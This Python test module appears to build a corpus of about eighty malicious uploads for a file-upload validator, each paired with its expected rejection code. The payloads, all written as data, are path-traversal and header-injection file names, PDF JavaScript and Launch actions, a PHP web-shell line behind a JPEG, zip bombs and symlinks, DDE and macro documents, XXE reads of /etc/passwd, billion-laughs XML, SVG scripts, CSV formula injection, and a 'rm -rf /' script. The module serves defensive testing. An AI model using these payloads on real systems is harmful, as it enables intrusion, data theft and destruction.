"""Eighty bad files, each with the one code it must be refused with. Other apps run it against their own doors too."""

import os
import zipfile
import zlib
from dataclasses import dataclass

from kapok.kernel.files import kinds
from kapok.kernel.files.tests import made

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
LIMIT = 2 * 1024 * 1024
ALLOWED = (
    kinds.PDF, kinds.JPEG, kinds.PNG, kinds.GIF, kinds.BMP, kinds.TIFF, kinds.WEBP, kinds.ZIP, kinds.OFD, kinds.DOCX, kinds.XLSX,
    kinds.DOC, kinds.XLS, kinds.TEXT, kinds.CSV, kinds.JSON, kinds.XML, kinds.SVG, kinds.RTF,
)  # fmt: skip


@dataclass(frozen=True)
class BadFile:
    """A file as it is uploaded, and why it is refused. `allow` holds the types of the door it is sent to."""

    title: str
    name: str
    content: bytes
    code: str
    allow: tuple[str, ...] = ALLOWED
    limit: int = LIMIT


def bad_files() -> list[BadFile]:
    """The whole corpus, made afresh (it is under 30 MB and no file of it harms anything)."""
    return [*_names(), *_sizes_and_types(), *_infected(), *_pdfs(), *_images(), *_archives(), *_office(), *_xml(), *_text()]


def _names() -> list[BadFile]:
    good = made.pdf()
    names = {
        "climbing path": "../../etc/passwd.pdf", "climbing Windows path": "..\\..\\boot.pdf", "right-to-left mark": "发票\u202efdp.exe",
        "zero byte": "a\0.pdf", "line break": "a\r\nSet-Cookie: x.pdf", "only dots": "...", "zero width": "a\u200b.pdf",
        "nothing": "", "lone surrogate": "\ud800.pdf",
    }  # fmt: skip
    return [BadFile(title, name, good, "files.name_unsafe") for title, name in names.items()]


def _sizes_and_types() -> list[BadFile]:
    images = (kinds.JPEG, kinds.PNG)
    return [
        BadFile("empty", "a.pdf", b"", "files.empty"),
        BadFile("one byte too large", "a.pdf", made.pdf().ljust(LIMIT + 1), "files.too_large"),
        BadFile("text called pdf", "a.pdf", "你好".encode(), "files.type_mismatch"),
        BadFile("png called jpg", "a.jpg", made.png(), "files.type_mismatch"),
        BadFile("zip called docx", "a.docx", made.zipped({"a.txt": "x"}), "files.type_mismatch"),
        BadFile("docx called pdf", "a.pdf", made.docx(), "files.type_mismatch"),
        BadFile("web page called jpg", "a.jpg", b"<html><script>alert(1)</script></html>", "files.type_mismatch"),
        BadFile("web page called txt", "a.txt", b"<!DOCTYPE html><p>x", "files.type_mismatch"),
        BadFile("pdf where pictures are asked", "a.pdf", made.pdf(), "files.type_not_allowed", images),
        BadFile("photo of a phone in HEIC", "a.heic", b"\0\0\0\x18ftypheic" + bytes(40), "files.type_not_allowed"),
        BadFile("rar", "a.rar", b"Rar!\x1a\x07\x01\0" + bytes(40), "files.type_mismatch"),
        BadFile("gzip called zip", "a.zip", b"\x1f\x8b\x08" + bytes(40), "files.type_mismatch"),
        BadFile("random bytes", "a.pdf", b"\x99\x00\xfe" * 100, "files.unknown_type"),
        BadFile("program", "setup.exe", b"MZ" + bytes(100), "files.executable"),
        BadFile("program called pdf", "a.pdf", b"MZ" + bytes(100), "files.executable"),
        BadFile("Linux program", "a.png", b"\x7fELF" + bytes(100), "files.executable"),
        BadFile("shell script called txt", "a.txt", b"#!/bin/sh\nrm -rf /\n", "files.executable"),
        BadFile("Windows short cut", "a.doc", b"L\0\0\0\x01\x14\x02\0" + bytes(100), "files.executable"),
        BadFile("double extension", "简历.pdf.exe", made.pdf(), "files.type_mismatch"),
    ]


def _infected() -> list[BadFile]:
    return [
        BadFile("test virus", "eicar.txt", EICAR, "files.infected"),
        BadFile("test virus called pdf", "a.pdf", EICAR, "files.infected"),
        BadFile("test virus behind a picture", "a.png", made.png() + EICAR, "files.infected"),
        BadFile("test virus stored in a zip", "a.zip", made.zipped({"a.txt": EICAR}, zipfile.ZIP_STORED), "files.infected"),
        BadFile("test virus packed in a zip", "a.zip", made.zipped({"a.txt": EICAR * 3}), "files.infected"),
        BadFile("test virus packed in a docx", "a.docx", made.docx({"word/media/a.dat": EICAR * 3}), "files.infected"),
    ]


def _object_stream(inner: bytes) -> bytes:
    body = zlib.compress(inner)
    return b"10 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(body), body,
    )  # fmt: skip


def _pdfs() -> list[BadFile]:
    whole, act = made.pdf(), "files.active_content"
    script = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a)(b)] /Root"
    cases = {
        "cut in half": (whole[: len(whole) // 2], "files.damaged"),
        "without end": (whole.replace(b"%%EOF", b""), "files.damaged"),
        "head and end alone": (b"%PDF-1.4\nstartxref\n0\n%%EOF", "files.damaged"),
        "no page": (made.pdf(pages=0), "files.damaged"),
        "too many pages": (made.pdf(pages=2001), "files.too_many_pages"),
        "script": (made.pdf(script), act),
        "script by an escaped name": (made.pdf(script.replace(b"JavaScript", b"J#61vaScript")), act),
        "script inside an object stream": (made.pdf(extra=_object_stream(b"11 0 " + script)), act),
        "starting a program": (made.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), act),
        "attachment": (made.pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), act),
        "dynamic form": (made.pdf(b"/AcroForm << /XFA 9 0 R >>"), act),
        "video": (made.pdf(extra=b"10 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), act),
        "sending a form away": (made.pdf(b"/OpenAction << /S /SubmitForm /F (http://x) >>"), act),
        "bomb in an object stream": (made.pdf(extra=_object_stream(b"\0" * (70 << 20))), "files.zip_bomb"),
        "password": (whole.replace(b"/Root", locked), "files.encrypted"),
    }  # fmt: skip
    return [BadFile(f"pdf: {title}", "a.pdf", body, code) for title, (body, code) in cases.items()]


def _images() -> list[BadFile]:
    broken = bytearray(made.png())
    broken[20] ^= 1
    cases = {
        "png cut": ("a.png", made.png()[:-15], "files.damaged"),
        "png with a wrong check sum": ("a.png", bytes(broken), "files.damaged"),
        "png without picture": ("a.png", made.png()[:33] + made.chunk(b"IEND", b""), "files.damaged"),
        "png of 50,000 pixels a side": ("a.png", made.png(50_000, 50_000, b""), "files.image_too_large"),
        "png with a zip behind it": ("a.png", made.png() + made.zipped({"a": "b"}), "files.active_content"),
        "jpeg cut": ("a.jpg", made.jpeg()[:-2], "files.damaged"),
        "jpeg head alone": ("a.jpg", b"\xff\xd8\xff\xe0", "files.damaged"),
        "jpeg of 60,000 pixels a side": ("a.jpg", made.jpeg(60_000, 60_000), "files.image_too_large"),
        "jpeg with a script behind it": ("a.jpg", made.jpeg() + b"<?php system($_GET[1]); ?>", "files.active_content"),
        "gif of no width": ("a.gif", made.gif(0, 2), "files.damaged"),
        "gif with an archive behind it": ("a.gif", made.gif() + made.zipped({"META-INF/MANIFEST.MF": "x"}), "files.active_content"),
        "bmp shorter than it says": ("a.bmp", made.bmp()[:-8], "files.damaged"),
        "tiff pointing outside itself": ("a.tif", b"II*\0\xff\xff\0\0", "files.damaged"),
        "webp cut": ("a.webp", made.webp()[:-4], "files.damaged"),
    }
    return [BadFile(title, *case) for title, case in cases.items()]


def _locked() -> bytes:
    body = bytearray(made.zipped({"a.txt": "x"}))
    body[6] |= 1
    body[body.find(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


def _link() -> bytes:
    info = zipfile.ZipInfo("link.txt")
    info.external_attr = 0o120777 << 16
    return made.zipped_info(info, "/etc/passwd")


def _lying() -> bytes:
    """A table of contents that promises a small file."""
    body = bytearray(made.zipped({"a.txt": b"\0" * 8_000_000}))
    at = body.find(b"PK\x01\x02") + 24
    body[at : at + 4] = (100).to_bytes(4, "little")
    return bytes(body)


def _overlapping() -> bytes:
    """Two names for the same packed bytes."""
    body = bytearray(made.zipped({"a.txt": b"x" * 5000, "b.txt": b"x" * 5000}))
    second = body.find(b"PK\x01\x02", body.find(b"PK\x01\x02") + 4)
    body[second + 42 : second + 46] = bytes(4)
    return bytes(body)


def _archives() -> list[BadFile]:
    bomb = made.zipped({"a.txt": b"\0" * (40 << 20)})
    cases = {
        "bomb": (bomb, "files.zip_bomb"),
        "bomb of 6,000 files": (made.zipped({f"{n}": "x" for n in range(6000)}), "files.zip_bomb"),
        "zip that lies about its size": (_lying(), "files.damaged"),
        "zip with overlapping files": (_overlapping(), "files.zip_bomb"),
        "zip in a zip": (made.zipped({"a.zip": made.zipped({"a": "b"})}), "files.nested_archive"),
        "zip in a zip by another name": (made.zipped({"a.dat": made.zipped({"a": "b"})}), "files.nested_archive"),
        "zip with a climbing path": (made.zipped({"../../a.txt": "x"}), "files.archive_path"),
        "zip with an absolute path": (made.zipped({"/etc/cron.d/a": "x"}), "files.archive_path"),
        "zip with a link": (_link(), "files.archive_path"),
        "zip with a program": (made.zipped({"a.txt": "x", "run.bat": "del *"}), "files.active_content"),
        "zip with a password": (_locked(), "files.encrypted"),
        "zip cut": (made.zipped({"a.txt": os.urandom(500)})[:300], "files.damaged"),
        "zip with nothing": (made.zipped({}), "files.damaged"),
    }
    return [BadFile(title, "a.zip", body, code) for title, (body, code) in cases.items()]


def _office() -> list[BadFile]:
    outside = '<Relationships><Relationship Type="x/attachedTemplate" Target="http://x/t.dotm" TargetMode="External"/></Relationships>'
    dde = made.DOCUMENT.replace("<w:t>申请书</w:t>", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")
    bomb = '<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><a>&b;</a>'
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    cases = {
        "docx with macros": ("a.docx", made.docx({"word/vbaProject.bin": b"x"}), "files.macro"),
        "docm called docx": ("a.docx", made.docx(types='<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'), "files.macro"),
        "xlsx with an old macro sheet": ("a.xlsx", made.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "files.macro"),
        "docx with ActiveX": ("a.docx", made.docx({"word/activeX/activeX1.xml": "<a/>"}), "files.macro"),
        "docx with a template from elsewhere": ("a.docx", made.docx({"word/_rels/settings.xml.rels": outside}), "files.external_reference"),
        "docx that starts a program by DDE": ("a.docx", made.docx(document=dde), "files.active_content"),
        "docx with an embedded object": ("a.docx", made.docx({"word/embeddings/oleObject1.bin": b"x"}), "files.active_content"),
        "docx with an XML bomb": ("a.docx", made.docx(document=bomb), "files.xml_entities"),
        "docx that reads a file of the server": ("a.docx", made.docx(document=entity), "files.xml_external"),
        "docx whose body is no XML": ("a.docx", made.docx(document="<a>"), "files.damaged"),
        "docx bomb": ("a.docx", made.docx({"word/media/a.png": b"\0" * (40 << 20)}), "files.zip_bomb"),
        "ofd that reads a file of the server": ("a.ofd", made.ofd(root=entity), "files.xml_external"),
        "doc with macros": ("a.doc", made.ole("WordDocument", "_VBA_PROJECT"), "files.macro"),
        "xls with macros": ("a.xls", made.ole("Workbook", "_VBA_PROJECT_CUR"), "files.macro"),
        "docx with a password": ("a.doc", made.ole("WordDocument", "EncryptedPackage"), "files.encrypted"),
        "rtf with an object": ("a.rtf", b"{\\rtf1{\\object\\objdata 0105}}", "files.active_content"),
    }
    return [BadFile(title, *case) for title, case in cases.items()]


def _xml() -> list[BadFile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
    cases = {
        "a billion laughs": ("a.xml", f"<?xml version='1.0'?><!DOCTYPE a [{laughs}]><a>&l9;</a>", "files.xml_entities"),
        "quadratic bomb": ("a.xml", f"<!DOCTYPE a [<!ENTITY x '{'x' * 9999}'>]><a>{'&x;' * 999}</a>", "files.xml_entities"),
        "entity from a file": ("a.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "files.xml_external"),
        "parameter entity": ("a.xml", "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://x/d'> %x;]><a/>", "files.xml_external"),
        "outer definition": ("a.xml", "<!DOCTYPE a SYSTEM 'http://x/a.dtd'><a/>", "files.xml_external"),
        "inclusion": ("a.xml", "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></a>", "files.xml_external"),
        "outer style sheet": ("a.xml", "<?xml-stylesheet href='http://x/a.xsl'?><a/>", "files.external_reference"),
        "5,000 levels": ("a.xml", "<a>" * 5000 + "</a>" * 5000, "files.damaged"),
        "not closed": ("a.xml", "<?xml version='1.0'?><a><b></a>", "files.damaged"),
        "svg with a script": ("a.svg", svg.format("<script>alert(1)</script>"), "files.active_content"),
        "svg with a handler": ("a.svg", svg.format("<rect onload='alert(1)'/>"), "files.active_content"),
        "svg with an outer picture": ("a.svg", svg.format("<image xlink:href='http://x/a.png'/>"), "files.external_reference"),
    }
    return [BadFile(title, name, text.encode(), code) for title, (name, text, code) in cases.items()]


def _text() -> list[BadFile]:
    cells = ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "＝1+1", '" =1+1"', "\t=1+1")
    rows = [BadFile(f"csv with the cell {cell!r}", "a.csv", f"姓名,备注\n林小满,{cell}\n".encode(), "files.formula") for cell in cells]
    return [
        *rows,
        BadFile("csv in semicolons with a formula", "a.csv", "a;b\n1;=HYPERLINK(1)\n".encode("gb18030"), "files.formula"),
        BadFile("csv with a zero byte", "a.csv", b"a,b\n\0,1\n", "files.unknown_type"),
        BadFile("json cut", "a.json", b'{"a": [1, 2', "files.damaged"),
    ]
